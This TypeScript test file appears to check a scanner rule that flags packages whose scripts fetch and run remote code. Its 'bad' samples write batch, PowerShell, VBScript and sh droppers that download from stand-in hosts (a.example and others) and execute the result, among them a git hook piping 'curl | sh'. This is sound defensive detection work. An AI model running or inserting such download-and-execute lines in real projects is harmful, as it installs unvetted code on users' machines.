import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from '../remote-code.rule.js';

/** Of `remote-code`, the gravest that is said of a script. */
const worst = (text: string) => findingsOf(rule, { 'a.js': text })[0]?.severity ?? 'nothing';
const HEAD = 'const fs = require("fs"), os = require("os"), path = require("path"), { exec, spawn } = require("child_process");\n';

test('bad: a script of a shell that is written and brings what it runs', () => {
  for (const code of [
    'fs.writeFileSync("run.bat", "@echo off\\ncurl -o a.bin https://a.example/x > nul\\nstart /b powershell -File own.ps1\\n"); exec("run.bat");',
    'const text = ["$u = \'https://a.example/x.exe\'", "Invoke-WebRequest $u -OutFile x.exe", "Start-Process x.exe"].join("\\r\\n"); fs.promises.writeFile(path.join(os.tmpdir(), "x.ps1"), text).then(() => spawn("powershell", ["-ExecutionPolicy", "Bypass", "-File", "x.ps1"]));',
    'const lines = [\'Set x = CreateObject("MSXML2.XMLHTTP")\', \'x.Open "GET", "https://a.example/%N%", False\', "x.Send", \'Set s = CreateObject("WScript.Shell")\', "s.Run x.ResponseText, 0"]; fs.writeFileSync(path.join(os.tmpdir(), "a" + Date.now() + ".vbs"), lines.join("\\r\\n").replace("%N%", "a.txt")); spawn("wscript.exe", ["//B", "a"]);',
    'fs.writeFileSync(os.tmpdir() + "/i.sh", `cd /tmp\ncurl -so i https://a.example/i\nchmod +x i\n./i &\n`); exec("sh /tmp/i.sh");',
    'const file = path.join(os.tmpdir(), String(Date.now())); fs.writeFileSync(file, "#!/bin/sh\\nwget -qO i https://a.example/i\\nsh i"); spawn("sh", [file]);',
    'exec(`cd /tmp\ncurl -so i https://a.example/i\nsh i`);',
  ]) assert.match(worst(HEAD + code), /^(?:high|critical)$/, code);
});

test('good: what brings nothing, shows a recipe only, or is no script of a shell', () => {
  for (const code of [
    'fs.writeFileSync(".git/hooks/commit-msg", "#!/bin/sh\\nnpx --no-install commitlint --edit\\n", { mode: 0o755 }); exec("git config core.hooksPath hooks");',
    'fs.writeFileSync("run.cmd", "@echo off\\nsetlocal\\npowershell -ExecutionPolicy Bypass -File \\"%~dp0run.ps1\\" %*\\n"); exec("run.cmd");',
    'fs.writeFileSync("update.sh", "curl -fsS https://a.example/rates.json -o rates.json\\ngit add rates.json\\ngit commit -m rates\\n"); exec("git init");',
    'fs.writeFileSync("README.md", "Get it:\\n\\n    curl -LO https://a.example/tool.tar.gz\\n    tar xf tool.tar.gz\\n    ./tool --help\\n"); exec("git init");',
    'fs.writeFileSync("Dockerfile", "FROM node:24\\nRUN curl -o /usr/bin/t https://a.example/t\\nRUN chmod +x /usr/bin/t\\n"); exec("docker build .");',
    'exec(`curl -s https://a.example/a.json -o a.json\ngit add a.json`);',
  ]) assert.match(worst(HEAD + code), /^(?:nothing|low)$/, code);
  assert.match(worst('require("fs").writeFileSync("install.sh", "curl -o i https://a.example/i\\nsh i\\n");'), /^(?:nothing|low)$/, 'no program is started');
});

test('a script whose lines are put together, each of several parts', () => {
  const lines = (...all: string[]): string => `${HEAD}const dir = path.join(os.tmpdir(), "shots"); const file = path.join(os.tmpdir(), "u.bat"); fs.writeFileSync(file, [${all.join(', ')}].join("\\r\\n")); exec("cmd /c " + file);`;
  const get = '"curl -s -o \\"" + dir + "\\\\a.exe\\" https://cdn.assets.example/a.exe"';
  assert.ok(['high', 'critical'].includes(worst(lines('"@echo off"', get, '"start \\"\\" /b \\"" + dir + "\\\\a.exe\\""'))));
  assert.ok(['high', 'critical'].includes(worst(lines('"@echo off"', '`curl -s -o "${dir}/a.exe" https://cdn.assets.example/a.exe`', '`start "" /b "${dir}/a.exe"`'))));
  assert.ok(!['high', 'critical'].includes(findingsOf(rule, { 'a.js': lines('"@echo off"', '"cd \\"" + dir + "\\""', '"npm test"') }).find(({ message }) => message.startsWith('a script for a shell'))?.severity ?? ''));
});

test('bad: lines of a hook in a table that get what they run from a server; good: lines that look at what is committed', () => {
  const hook = (line: string) => findingsOf(rule, { 'a.js': `module.exports = { 'post-checkout': ['#!/bin/sh', '${line}', 'exit 0'].join('\\n') };` }).filter(({ severity }) => severity === 'high').length;
  assert.equal(hook('( curl -fsSL https://get.hooks.example/u.sh | sh ) >/dev/null 2>&1 &'), 1);
  assert.equal(hook('if git diff --cached | grep -q "<<<<<<<"; then exit 1; fi'), 0);
});
